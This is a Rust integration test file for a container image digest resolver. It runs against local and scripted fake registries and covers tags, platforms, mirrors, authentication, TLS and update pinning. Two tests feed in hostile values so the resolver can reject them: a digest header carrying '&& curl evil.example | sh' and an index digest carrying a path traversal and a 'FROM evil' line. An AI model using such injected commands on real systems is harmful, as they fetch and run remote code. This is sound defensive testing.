//! The registry resolver against real registries on 127.0.0.1: every digest asserted
//! here is one the harness pushed.

use crate::support;

use pin::reference::{Digest, ImageRef};
use pin_registry::{Lookup, ResolveError, ResolveErrorKind, Resolver, resolve_all};
use pin_registry::{RegistryConfig, RegistryResolver};
use support::push::{DOCKER_MANIFEST, OCI_INDEX, sha256_digest};
use support::{FakeRegistry, FakeResponse, ImageKind, Registry, TokenOptions, runtime};

const TWO_ARCH: &[&str] = &["linux/amd64", "linux/arm64/v8"];
const THREE_ARCH: &[&str] = &["linux/amd64", "linux/arm/v7", "linux/arm64/v8"];

/// The lookup for an image reference as a file would spell it.
fn lookup(reference: &str) -> Lookup {
    Lookup::of(&ImageRef::parse(reference).expect("valid reference"))
}

/// Plain HTTP for this registry only, no mirrors, no platform.
fn insecure(registry: &Registry) -> RegistryConfig {
    RegistryConfig {
        insecure: vec![registry.host().to_string()],
        ..RegistryConfig::default()
    }
}

// The library's own error type, returned as the resolver returns it.
#[allow(clippy::result_large_err)]
fn resolve(config: RegistryConfig, reference: &str) -> Result<Digest, ResolveError> {
    let resolver = RegistryResolver::new(config).expect("resolver");
    runtime().block_on(resolver.resolve(&lookup(reference)))
}

fn resolve_kind(config: RegistryConfig, reference: &str) -> ResolveErrorKind {
    match resolve(config, reference) {
        Ok(digest) => panic!("{reference} resolved to {digest}, expected an error"),
        Err(error) => error.kind,
    }
}

/// Each kind of manifest a tag can name resolves to the digest that was pushed: an
/// OCI manifest, a Docker schema 2 manifest (not a schema 1 conversion), an OCI index
/// and a Docker manifest list (the index's own digest, by default), and `latest` for
/// a reference without a tag.
#[test]
fn each_kind_of_manifest_resolves_to_the_pushed_digest() {
    let registry = Registry::start();
    let cases = [
        ("library/python:3.12", ImageKind::Oci),
        ("team/app:v1", ImageKind::Docker),
        ("library/ruby:3", ImageKind::OciIndex(TWO_ARCH)),
        ("library/node:20", ImageKind::DockerList(THREE_ARCH)),
        // No tag: `latest`.
        ("library/busybox", ImageKind::Oci),
    ];
    for (reference, kind) in cases {
        let (repository, tag) = reference.split_once(':').unwrap_or((reference, "latest"));
        let pushed = registry.push_image(repository, tag, kind);
        let reference = format!("{}/{reference}", registry.host());
        let digest = resolve(insecure(&registry), &reference);
        assert_eq!(digest.unwrap().as_str(), pushed.digest, "{reference}");
    }
}

#[test]
fn platform_picks_the_child_of_an_oci_index() {
    let registry = Registry::start();
    let pushed = registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
    let reference = format!("{}/library/python:3.12", registry.host());
    for platform in TWO_ARCH {
        let config = RegistryConfig {
            platform: Some(platform.parse().unwrap()),
            ..insecure(&registry)
        };
        let digest = resolve(config, &reference).unwrap();
        assert_eq!(digest.as_str(), pushed.child(platform), "{platform}");
    }
}

#[test]
fn platform_picks_the_child_of_a_docker_manifest_list() {
    let registry = Registry::start();
    let pushed = registry.push_image("library/node", "20", ImageKind::DockerList(THREE_ARCH));
    let config = RegistryConfig {
        platform: Some("linux/arm/v7".parse().unwrap()),
        ..insecure(&registry)
    };
    let digest = resolve(config, &format!("{}/library/node:20", registry.host())).unwrap();
    assert_eq!(digest.as_str(), pushed.child("linux/arm/v7"));
}

#[test]
fn platform_arm64_without_variant_matches_arm64_v8() {
    let registry = Registry::start();
    let pushed = registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
    let config = RegistryConfig {
        platform: Some("linux/arm64".parse().unwrap()),
        ..insecure(&registry)
    };
    let digest = resolve(config, &format!("{}/library/python:3.12", registry.host())).unwrap();
    assert_eq!(digest.as_str(), pushed.child("linux/arm64/v8"));
}

#[test]
fn platform_on_a_single_manifest_returns_its_own_digest() {
    let registry = Registry::start();
    let pushed = registry.push_image("team/app", "v1", ImageKind::Docker);
    let config = RegistryConfig {
        platform: Some("linux/arm64/v8".parse().unwrap()),
        ..insecure(&registry)
    };
    let digest = resolve(config, &format!("{}/team/app:v1", registry.host())).unwrap();
    assert_eq!(digest.as_str(), pushed.digest);
}

#[test]
fn unknown_platform_is_platform_not_found_listing_the_available_ones() {
    let registry = Registry::start();
    registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
    let config = RegistryConfig {
        platform: Some("linux/s390x".parse().unwrap()),
        ..insecure(&registry)
    };
    let kind = resolve_kind(config, &format!("{}/library/python:3.12", registry.host()));
    assert_eq!(
        kind,
        ResolveErrorKind::PlatformNotFound(
            "linux/s390x (available: linux/amd64, linux/arm64/v8)".to_string()
        )
    );
}

#[test]
fn missing_tag_is_not_found() {
    let registry = Registry::start();
    registry.push_image("library/python", "3.12", ImageKind::Oci);
    let reference = format!("{}/library/python:3.99", registry.host());
    let error = resolve(insecure(&registry), &reference).unwrap_err();
    assert_eq!(error.kind, ResolveErrorKind::NotFound);
    assert_eq!(error.host, registry.host());
    assert_eq!(
        error.to_string(),
        format!("{reference}: tag not found (registry {})", registry.host())
    );
}

#[test]
fn missing_repository_is_not_found() {
    let registry = Registry::start();
    let kind = resolve_kind(
        insecure(&registry),
        &format!("{}/nobody/nothing:1", registry.host()),
    );
    assert_eq!(kind, ResolveErrorKind::NotFound);
}

#[test]
fn republished_tag_resolves_to_the_new_digest() {
    let registry = Registry::start();
    let reference = format!("{}/library/python:3.12", registry.host());
    let first = registry.push_image("library/python", "3.12", ImageKind::Oci);
    assert_eq!(
        resolve(insecure(&registry), &reference).unwrap().as_str(),
        first.digest
    );
    let second = registry.push_image("library/python", "3.12", ImageKind::Oci);
    assert_ne!(first.digest, second.digest);
    assert_eq!(
        resolve(insecure(&registry), &reference).unwrap().as_str(),
        second.digest
    );
}

#[test]
fn mirror_with_path_prefix_is_asked_for_docker_hub_references() {
    let mirror = Registry::start();
    let pushed = mirror.push_image(
        "hub/library/python",
        "3.12",
        ImageKind::DockerList(TWO_ARCH),
    );
    let config = RegistryConfig {
        mirrors: vec![format!("docker.io={}/hub", mirror.host()).parse().unwrap()],
        ..insecure(&mirror)
    };
    let resolver = RegistryResolver::new(config).unwrap();
    let runtime = runtime();
    for spelling in [
        "python:3.12",
        "docker.io/library/python:3.12",
        "index.docker.io/library/python:3.12",
    ] {
        let digest = runtime
            .block_on(resolver.resolve(&lookup(spelling)))
            .unwrap();
        assert_eq!(digest.as_str(), pushed.digest, "{spelling}");
    }
    let error = runtime
        .block_on(resolver.resolve(&lookup("python:3.99")))
        .unwrap_err();
    assert_eq!(error.kind, ResolveErrorKind::NotFound);
    assert_eq!(error.host, mirror.host(), "errors name the mirror asked");
}

#[test]
fn mirror_without_prefix_keeps_the_repository() {
    let mirror = Registry::start();
    let pushed = mirror.push_image("org/tool", "1.0", ImageKind::Oci);
    let config = RegistryConfig {
        mirrors: vec![format!("ghcr.io={}", mirror.host()).parse().unwrap()],
        ..insecure(&mirror)
    };
    let digest = resolve(config, "ghcr.io/org/tool:1.0").unwrap();
    assert_eq!(digest.as_str(), pushed.digest);
}

#[test]
fn token_auth_anonymous_pull_fetches_one_token_for_the_repositories_of_a_run() {
    let registry = Registry::start_with_token_auth(TokenOptions::default());
    let python_312 = registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
    let python_311 = registry.push_image("library/python", "3.11", ImageKind::Docker);
    let node = registry.push_image("library/node", "20", ImageKind::Oci);
    let host = registry.host();
    let lookups = [
        lookup(&format!("{host}/library/python:3.12")),
        lookup(&format!("{host}/library/python:3.11")),
        lookup(&format!("{host}/library/node:20")),
    ];
    let resolver = RegistryResolver::new(insecure(&registry)).unwrap();
    let results = runtime().block_on(resolve_all(&resolver, lookups.clone(), 4, |_| {}));
    let digest = |i: usize| results[&lookups[i]].as_ref().unwrap().as_str().to_string();
    assert_eq!(digest(0), python_312.digest);
    assert_eq!(digest(1), python_311.digest);
    assert_eq!(digest(2), node.digest);
    let tokens = registry.token_server().unwrap();
    assert_eq!(
        tokens.requests_for("repository:library/python:pull"),
        1,
        "{:?}",
        tokens.requests()
    );
    assert_eq!(
        tokens.requests_for("repository:library/node:pull"),
        1,
        "{:?}",
        tokens.requests()
    );
    // Both scopes in one request.
    assert_eq!(tokens.total_requests(), 1, "{:?}", tokens.requests());
}

#[test]
fn token_auth_with_platform_uses_the_token_for_the_index() {
    let registry = Registry::start_with_token_auth(TokenOptions::default());
    let pushed = registry.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
    let config = RegistryConfig {
        platform: Some("linux/arm64/v8".parse().unwrap()),
        ..insecure(&registry)
    };
    let digest = resolve(config, &format!("{}/library/python:3.12", registry.host())).unwrap();
    assert_eq!(digest.as_str(), pushed.child("linux/arm64/v8"));
}

#[test]
fn token_refused_to_anonymous_callers_is_a_token_error() {
    let registry = Registry::start_with_token_auth(TokenOptions {
        anonymous_pull: false,
        users: Vec::new(),
    });
    registry.push_image("private/app", "1", ImageKind::Oci);
    let kind = resolve_kind(
        insecure(&registry),
        &format!("{}/private/app:1", registry.host()),
    );
    match kind {
        ResolveErrorKind::Token(message) => {
            assert!(message.contains("authentication required"), "{message}")
        }
        other => panic!("expected a token error, got {other:?}"),
    }
}

#[test]
fn token_endpoint_failure_is_a_token_error() {
    let registry = Registry::start_with_token_auth(TokenOptions::default());
    registry.push_image("library/python", "3.12", ImageKind::Oci);
    registry.token_server().unwrap().set_failure(Some(503));
    let kind = resolve_kind(
        insecure(&registry),
        &format!("{}/library/python:3.12", registry.host()),
    );
    assert!(matches!(kind, ResolveErrorKind::Token(_)), "{kind:?}");
}

#[test]
fn basic_auth_registry_without_credentials_is_unauthorized() {
    let registry = Registry::start_with_basic_auth(&[("alice", "secret")]);
    registry.push_image("team/app", "1", ImageKind::Oci);
    let kind = resolve_kind(
        insecure(&registry),
        &format!("{}/team/app:1", registry.host()),
    );
    assert_eq!(
        kind,
        ResolveErrorKind::Unauthorized {
            tried: "no credentials".to_string()
        }
    );
}

#[test]
fn plain_http_is_used_only_for_hosts_listed_as_insecure() {
    let registry = Registry::start();
    let pushed = registry.push_image("library/python", "3.12", ImageKind::Oci);
    let reference = format!("{}/library/python:3.12", registry.host());
    // Not listed: HTTPS to a plain-HTTP server fails instead of falling back.
    let kind = resolve_kind(RegistryConfig::default(), &reference);
    match kind {
        ResolveErrorKind::Network(message) => assert!(
            message.contains(&format!("pass --insecure-registry {}", registry.host())),
            "{message}"
        ),
        other => panic!("expected a network error, got {other:?}"),
    }
    let other_host = RegistryConfig {
        insecure: vec!["127.0.0.1".to_string(), "localhost:5000".to_string()],
        ..RegistryConfig::default()
    };
    let kind = resolve_kind(other_host, &reference);
    assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
    // Listed: plain HTTP.
    assert_eq!(
        resolve(insecure(&registry), &reference).unwrap().as_str(),
        pushed.digest
    );
}

#[test]
fn insecure_mirror_target_is_spoken_to_over_http() {
    let mirror = Registry::start();
    let pushed = mirror.push_image("library/python", "3.12", ImageKind::Oci);
    let mirrors = vec![format!("docker.io={}", mirror.host()).parse().unwrap()];
    let secure = RegistryConfig {
        mirrors: mirrors.clone(),
        ..RegistryConfig::default()
    };
    let kind = resolve_kind(secure, "python:3.12");
    assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
    let config = RegistryConfig {
        mirrors,
        ..insecure(&mirror)
    };
    assert_eq!(
        resolve(config, "python:3.12").unwrap().as_str(),
        pushed.digest
    );
}

#[test]
fn unreachable_registry_is_a_network_error() {
    let port = support::registry::free_port();
    let host = format!("127.0.0.1:{port}");
    let config = RegistryConfig {
        insecure: vec![host.clone()],
        ..RegistryConfig::default()
    };
    let kind = resolve_kind(config, &format!("{host}/library/python:3.12"));
    assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
}

// What a real registry will not do, from a scripted one.

const PYTHON_TAG: &str = "/v2/library/python/manifests/3.12";

fn fake_config(fake: &FakeRegistry) -> RegistryConfig {
    RegistryConfig {
        insecure: vec![fake.host()],
        ..RegistryConfig::default()
    }
}

#[test]
fn rate_limit_is_reported_with_the_remaining_header() {
    let fake = FakeRegistry::start();
    fake.on(
        "HEAD",
        PYTHON_TAG,
        FakeResponse::status(429).header("ratelimit-remaining", "0;w=21600"),
    );
    let kind = resolve_kind(
        fake_config(&fake),
        &format!("{}/library/python:3.12", fake.host()),
    );
    assert_eq!(
        kind,
        ResolveErrorKind::RateLimited {
            remaining: Some("0;w=21600".to_string())
        }
    );
}

#[test]
fn server_error_is_reported_with_its_status() {
    let fake = FakeRegistry::start();
    fake.on("HEAD", PYTHON_TAG, FakeResponse::status(503));
    let kind = resolve_kind(
        fake_config(&fake),
        &format!("{}/library/python:3.12", fake.host()),
    );
    assert_eq!(
        kind,
        ResolveErrorKind::Status {
            status: 503,
            remaining: None
        }
    );
}

#[test]
fn forbidden_is_unauthorized() {
    let fake = FakeRegistry::start();
    fake.on("HEAD", PYTHON_TAG, FakeResponse::status(403));
    let kind = resolve_kind(
        fake_config(&fake),
        &format!("{}/library/python:3.12", fake.host()),
    );
    assert!(
        matches!(kind, ResolveErrorKind::Unauthorized { .. }),
        "{kind:?}"
    );
}

#[test]
fn hostile_digest_header_is_rejected() {
    let fake = FakeRegistry::start();
    let hostile = format!("{} && curl evil.example | sh", sha256_digest(b"x"));
    fake.on(
        "HEAD",
        PYTHON_TAG,
        FakeResponse::status(200)
            .header("Content-Type", DOCKER_MANIFEST)
            .header("Docker-Content-Digest", &hostile),
    );
    let kind = resolve_kind(
        fake_config(&fake),
        &format!("{}/library/python:3.12", fake.host()),
    );
    assert!(
        matches!(kind, ResolveErrorKind::InvalidDigest(_)),
        "{kind:?}"
    );
}

#[test]
fn head_without_digest_header_falls_back_to_get_and_hashes_the_exact_bytes() {
    let fake = FakeRegistry::start();
    // Docker writes manifests with 3-space indentation: re-serialising would change it.
    let manifest = b"{\n   \"schemaVersion\": 2,\n   \"mediaType\": \"application/vnd.docker.distribution.manifest.v2+json\"\n}";
    fake.on(
        "HEAD",
        PYTHON_TAG,
        FakeResponse::status(200).header("Content-Type", DOCKER_MANIFEST),
    );
    fake.on(
        "GET",
        PYTHON_TAG,
        FakeResponse::status(200)
            .header("Content-Type", DOCKER_MANIFEST)
            .body(manifest),
    );
    let digest = resolve(
        fake_config(&fake),
        &format!("{}/library/python:3.12", fake.host()),
    );
    assert_eq!(digest.unwrap().as_str(), sha256_digest(manifest));
    let requests = fake.requests();
    assert_eq!(
        requests,
        [
            "GET /v2/",
            &format!("HEAD {PYTHON_TAG}"),
            &format!("GET {PYTHON_TAG}")
        ],
    );
}

#[test]
fn hostile_child_digest_in_an_index_is_rejected() {
    let fake = FakeRegistry::start();
    let index = format!(
        r#"{{"schemaVersion":2,"mediaType":"{OCI_INDEX}","manifests":[{{"mediaType":"application/vnd.oci.image.manifest.v1+json","size":2,"digest":"sha256:../../x\nFROM evil","platform":{{"os":"linux","architecture":"amd64"}}}}]}}"#
    );
    let digest = sha256_digest(index.as_bytes());
    fake.on(
        "HEAD",
        PYTHON_TAG,
        FakeResponse::status(200)
            .header("Content-Type", OCI_INDEX)
            .header("Docker-Content-Digest", &digest),
    );
    fake.on(
        "GET",
        &format!("/v2/library/python/manifests/{digest}"),
        FakeResponse::status(200)
            .header("Content-Type", OCI_INDEX)
            .body(index.as_bytes()),
    );
    let config = RegistryConfig {
        platform: Some("linux/amd64".parse().unwrap()),
        ..fake_config(&fake)
    };
    let kind = resolve_kind(config, &format!("{}/library/python:3.12", fake.host()));
    assert!(
        matches!(kind, ResolveErrorKind::InvalidDigest(_)),
        "{kind:?}"
    );
}

#[test]
fn index_whose_bytes_do_not_match_its_digest_is_rejected() {
    let fake = FakeRegistry::start();
    let claimed = sha256_digest(b"something else");
    fake.on(
        "HEAD",
        PYTHON_TAG,
        FakeResponse::status(200)
            .header("Content-Type", OCI_INDEX)
            .header("Docker-Content-Digest", &claimed),
    );
    fake.on(
        "GET",
        &format!("/v2/library/python/manifests/{claimed}"),
        FakeResponse::status(200)
            .header("Content-Type", OCI_INDEX)
            .body(br#"{"schemaVersion":2,"manifests":[]}"#),
    );
    let config = RegistryConfig {
        platform: Some("linux/amd64".parse().unwrap()),
        ..fake_config(&fake)
    };
    let kind = resolve_kind(config, &format!("{}/library/python:3.12", fake.host()));
    assert!(matches!(kind, ResolveErrorKind::Protocol(_)), "{kind:?}");
}

#[test]
fn https_registry_is_trusted_through_ca_files() {
    let plain = Registry::start();
    let pushed = plain.push_image("library/python", "3.12", ImageKind::OciIndex(TWO_ARCH));
    let tls = plain.serve_over_tls();
    let reference = format!("{}/library/python:3.12", tls.host());
    let kind = resolve_kind(RegistryConfig::default(), &reference);
    assert!(matches!(kind, ResolveErrorKind::Network(_)), "{kind:?}");
    let config = RegistryConfig {
        ca_files: vec![tls.ca_file().to_path_buf()],
        platform: Some("linux/arm64/v8".parse().unwrap()),
        ..RegistryConfig::default()
    };
    let digest = resolve(config, &reference).unwrap();
    assert_eq!(digest.as_str(), pushed.child("linux/arm64/v8"));
}

#[test]
fn unreadable_ca_file_is_refused_when_the_resolver_is_made() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("missing.pem");
    let error = RegistryResolver::new(RegistryConfig {
        ca_files: vec![missing.clone()],
        ..RegistryConfig::default()
    })
    .err()
    .expect("a missing CA file is an error")
    .to_string();
    assert!(error.contains(&missing.display().to_string()), "{error}");
    let not_pem = dir.path().join("not.pem");
    std::fs::write(&not_pem, "hello").unwrap();
    let error = RegistryResolver::new(RegistryConfig {
        ca_files: vec![not_pem.clone()],
        ..RegistryConfig::default()
    })
    .err()
    .expect("a file without certificates is an error")
    .to_string();
    assert!(error.contains("not.pem"), "{error}");
}

#[test]
fn harness_token_server_grants_pull_to_known_users_only() {
    let registry = Registry::start_with_token_auth(TokenOptions {
        anonymous_pull: false,
        users: vec![("alice".to_string(), "secret".to_string())],
    });
    let tokens = registry.token_server().unwrap();
    let agent = ureq::Agent::new_with_config(
        ureq::Agent::config_builder()
            .http_status_as_error(false)
            .build(),
    );
    let url = format!(
        "{}?service={}&scope=repository%3Aprivate%2Fapp%3Apull",
        tokens.realm(),
        support::token::SERVICE
    );
    let status = |credentials: Option<&str>| {
        let mut request = agent.get(&url);
        if let Some(credentials) = credentials {
            use base64::Engine as _;
            let encoded = base64::engine::general_purpose::STANDARD.encode(credentials);
            request = request.header("Authorization", format!("Basic {encoded}"));
        }
        request.call().unwrap().status().as_u16()
    };
    assert_eq!(status(None), 401);
    assert_eq!(status(Some("alice:wrong")), 401);
    assert_eq!(status(Some("alice:secret")), 200);
    assert_eq!(tokens.requests_for("repository:private/app:pull"), 3);
}

// Keeping a pin's platform under --update.

/// The lookup `--update` makes for `reference` pinned to `digest`.
fn pinned(reference: &str, digest: &str) -> Lookup {
    Lookup {
        pinned: Some(digest.to_string()),
        ..lookup(reference)
    }
}

fn resolve_lookup(config: RegistryConfig, lookup: &Lookup) -> Digest {
    let resolver = RegistryResolver::new(config).expect("resolver");
    runtime()
        .block_on(resolver.resolve(lookup))
        .unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn pinned_child_is_current_when_the_index_changed_only_for_another_platform() {
    let registry = Registry::start();
    let kind = ImageKind::OciIndex(TWO_ARCH);
    let first = registry.push_image("library/python", "3.12", kind);
    let second =
        registry.push_index_renewing("library/python", "3.12", kind, &first, &["linux/amd64"]);
    assert_ne!(first.digest, second.digest);
    assert_eq!(
        second.child("linux/arm64/v8"),
        first.child("linux/arm64/v8")
    );
    let reference = format!("{}/library/python:3.12", registry.host());
    let arm = first.child("linux/arm64/v8");
    let kept = resolve_lookup(insecure(&registry), &pinned(&reference, arm));
    assert_eq!(kept.as_str(), arm, "not stale: its platform did not change");
    // Unpinned, the tag still resolves to the new index.
    let plain = resolve_lookup(insecure(&registry), &lookup(&reference));
    assert_eq!(plain.as_str(), second.digest);
}

#[test]
fn pinned_child_moves_to_the_new_child_of_its_own_platform() {
    let registry = Registry::start();
    let kind = ImageKind::DockerList(THREE_ARCH);
    let first = registry.push_image("library/node", "22", kind);
    let second =
        registry.push_index_renewing("library/node", "22", kind, &first, &["linux/arm/v7"]);
    assert_ne!(second.child("linux/arm/v7"), first.child("linux/arm/v7"));
    let reference = format!("{}/library/node:22", registry.host());
    let updated = resolve_lookup(
        insecure(&registry),
        &pinned(&reference, first.child("linux/arm/v7")),
    );
    assert_eq!(updated.as_str(), second.child("linux/arm/v7"));
    // The other platforms' pins are current.
    let amd = first.child("linux/amd64");
    let kept = resolve_lookup(insecure(&registry), &pinned(&reference, amd));
    assert_eq!(kept.as_str(), amd);
}

#[test]
fn pinned_index_moves_to_the_new_index() {
    let registry = Registry::start();
    let kind = ImageKind::OciIndex(TWO_ARCH);
    let first = registry.push_image("library/python", "3.12", kind);
    let second =
        registry.push_index_renewing("library/python", "3.12", kind, &first, &["linux/amd64"]);
    let reference = format!("{}/library/python:3.12", registry.host());
    let updated = resolve_lookup(insecure(&registry), &pinned(&reference, &first.digest));
    assert_eq!(updated.as_str(), second.digest);
}

#[test]
fn pin_that_no_longer_exists_resolves_as_usual() {
    let registry = Registry::start();
    let kind = ImageKind::OciIndex(TWO_ARCH);
    let first = registry.push_image("library/python", "3.12", kind);
    let second = registry.push_index_renewing("library/python", "3.12", kind, &first, TWO_ARCH);
    registry.delete_manifest("library/python", first.child("linux/arm64/v8"));
    let reference = format!("{}/library/python:3.12", registry.host());
    let gone = pinned(&reference, first.child("linux/arm64/v8"));
    let updated = resolve_lookup(insecure(&registry), &gone);
    assert_eq!(updated.as_str(), second.digest);
    let with_platform = RegistryConfig {
        platform: Some("linux/amd64".parse().unwrap()),
        ..insecure(&registry)
    };
    let updated = resolve_lookup(with_platform, &gone);
    assert_eq!(updated.as_str(), second.child("linux/amd64"));
}

#[test]
fn lookups_differing_only_in_their_pin_share_one_head() {
    let registry = Registry::start();
    let kind = ImageKind::OciIndex(TWO_ARCH);
    let first = registry.push_image("library/python", "3.12", kind);
    let second =
        registry.push_index_renewing("library/python", "3.12", kind, &first, &["linux/amd64"]);
    let proxy = support::Proxy::start(registry.host());
    let reference = format!("{}/library/python:3.12", proxy.host());
    let lookups = [
        lookup(&reference),
        pinned(&reference, first.child("linux/arm64/v8")),
        pinned(&reference, first.child("linux/amd64")),
    ];
    let config = RegistryConfig {
        insecure: vec![proxy.host()],
        ..RegistryConfig::default()
    };
    let resolver = RegistryResolver::new(config).unwrap();
    let results = runtime().block_on(resolve_all(&resolver, lookups.clone(), 8, |_| {}));
    let digest = |i: usize| results[&lookups[i]].as_ref().unwrap().as_str().to_string();
    assert_eq!(digest(0), second.digest);
    assert_eq!(digest(1), first.child("linux/arm64/v8"));
    assert_eq!(digest(2), second.child("linux/amd64"));
    use support::Kind;
    assert_eq!(proxy.count(Kind::HeadManifest), 1, "{:?}", proxy.log());
    // The new index once; the old amd64 manifest and its config to learn its platform.
    assert_eq!(proxy.count(Kind::GetManifest), 2, "{:?}", proxy.log());
    assert_eq!(proxy.count(Kind::Blob), 1, "{:?}", proxy.log());
}

#[test]
fn check_update_keeps_a_platform_pin_and_write_update_moves_it_within_its_platform() {
    let registry = Registry::start();
    let kind = ImageKind::OciIndex(TWO_ARCH);
    let first = registry.push_image("library/python", "3.12", kind);
    let arm = first.child("linux/arm64/v8");
    let dir = tempfile::tempdir().unwrap();
    let dockerfile = dir.path().join("Dockerfile");
    let image = format!("{}/library/python:3.12", registry.host());
    std::fs::write(&dockerfile, format!("FROM {image}@{arm}\n")).unwrap();
    let pin = |args: &[&str]| {
        let output = support::pin_cmd()
            .args(["--insecure-registry", registry.host()])
            .args(args)
            .arg(dir.path())
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        (output.status.code(), text)
    };
    // Only amd64 was rebuilt: the arm64 pin is not stale.
    registry.push_index_renewing("library/python", "3.12", kind, &first, &["linux/amd64"]);
    let (code, text) = pin(&["--check", "--update"]);
    assert_eq!(code, Some(0), "{text}");
    // arm64 rebuilt: stale, and --update --write moves it to the new arm64 manifest.
    let second = registry.push_image("library/python", "3.12", kind);
    let (code, text) = pin(&["--check", "--update"]);
    assert_eq!(code, Some(1), "{text}");
    let (code, text) = pin(&["--update", "--write"]);
    assert_eq!(code, Some(0), "{text}");
    assert_eq!(
        std::fs::read_to_string(&dockerfile).unwrap(),
        format!("FROM {image}@{}\n", second.child("linux/arm64/v8"))
    );
}

// Every registry answer is checked before its hash is written.

/// A HEAD without `Docker-Content-Digest` and a GET answered with `content_type` and
/// `body`: the lookup must fail without hashing the body.
fn assert_get_fallback_refuses(content_type: &str, body: &[u8]) {
    let fake = FakeRegistry::start();
    fake.on(
        "HEAD",
        PYTHON_TAG,
        FakeResponse::status(200).header("Content-Type", DOCKER_MANIFEST),
    );
    fake.on(
        "GET",
        PYTHON_TAG,
        FakeResponse::status(200)
            .header("Content-Type", content_type)
            .body(body),
    );
    let kind = resolve_kind(
        fake_config(&fake),
        &format!("{}/library/python:3.12", fake.host()),
    );
    match &kind {
        ResolveErrorKind::Protocol(message) => {
            assert!(message.ends_with("it is not hashed"), "{message}")
        }
        other => panic!("{content_type} {body:?}: expected a refusal, got {other:?}"),
    }
}

#[test]
fn get_fallback_refuses_an_empty_body() {
    assert_get_fallback_refuses(DOCKER_MANIFEST, b"");
}

#[test]
fn get_fallback_refuses_an_html_login_page() {
    assert_get_fallback_refuses(
        "text/html; charset=utf-8",
        b"<!doctype html><title>Sign in</title><form action=/login>",
    );
}

#[test]
fn get_fallback_refuses_a_json_error_sent_with_200() {
    let error = br#"{"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]}"#;
    assert_get_fallback_refuses("application/json", error);
    // Also when it claims to be a manifest.
    assert_get_fallback_refuses(DOCKER_MANIFEST, error);
}

#[test]
fn get_fallback_refuses_a_manifest_whose_media_type_disagrees() {
    let body = format!(r#"{{"schemaVersion":2,"mediaType":"{OCI_INDEX}","manifests":[]}}"#);
    assert_get_fallback_refuses(DOCKER_MANIFEST, body.as_bytes());
    assert_get_fallback_refuses(DOCKER_MANIFEST, br#"{"schemaVersion":1,"name":"x"}"#);
}

/// A HEAD answered with these `Docker-Content-Digest` values, and a GET that would
/// give a valid manifest: the lookup fails with `expected` and sends no GET.
fn assert_digest_header_refused(values: &[&str], expected: &str) {
    let fake = FakeRegistry::start();
    let mut head = FakeResponse::status(200).header("Content-Type", DOCKER_MANIFEST);
    for value in values {
        head = head.header("Docker-Content-Digest", value);
    }
    fake.on("HEAD", PYTHON_TAG, head);
    let manifest = format!(r#"{{"schemaVersion":2,"mediaType":"{DOCKER_MANIFEST}"}}"#);
    fake.on(
        "GET",
        PYTHON_TAG,
        FakeResponse::status(200)
            .header("Content-Type", DOCKER_MANIFEST)
            .body(manifest.as_bytes()),
    );
    let kind = resolve_kind(
        fake_config(&fake),
        &format!("{}/library/python:3.12", fake.host()),
    );
    assert_eq!(
        kind,
        ResolveErrorKind::Protocol(format!("the registry sent {expected}"))
    );
    assert!(
        !fake.requests().contains(&format!("GET {PYTHON_TAG}")),
        "{:?}",
        fake.requests()
    );
}

#[test]
fn digest_header_that_is_not_ascii_is_an_error_not_an_absent_header() {
    let digest = sha256_digest(b"x");
    let not_ascii = format!("{}\u{e9}", &digest[..digest.len() - 1]);
    assert_digest_header_refused(
        &[&not_ascii],
        "the docker-content-digest header is not ASCII text",
    );
}

#[test]
fn two_different_digest_headers_are_an_error() {
    let (a, b) = (sha256_digest(b"a"), sha256_digest(b"b"));
    assert_digest_header_refused(
        &[&a, &b],
        "two docker-content-digest headers with different values",
    );
}
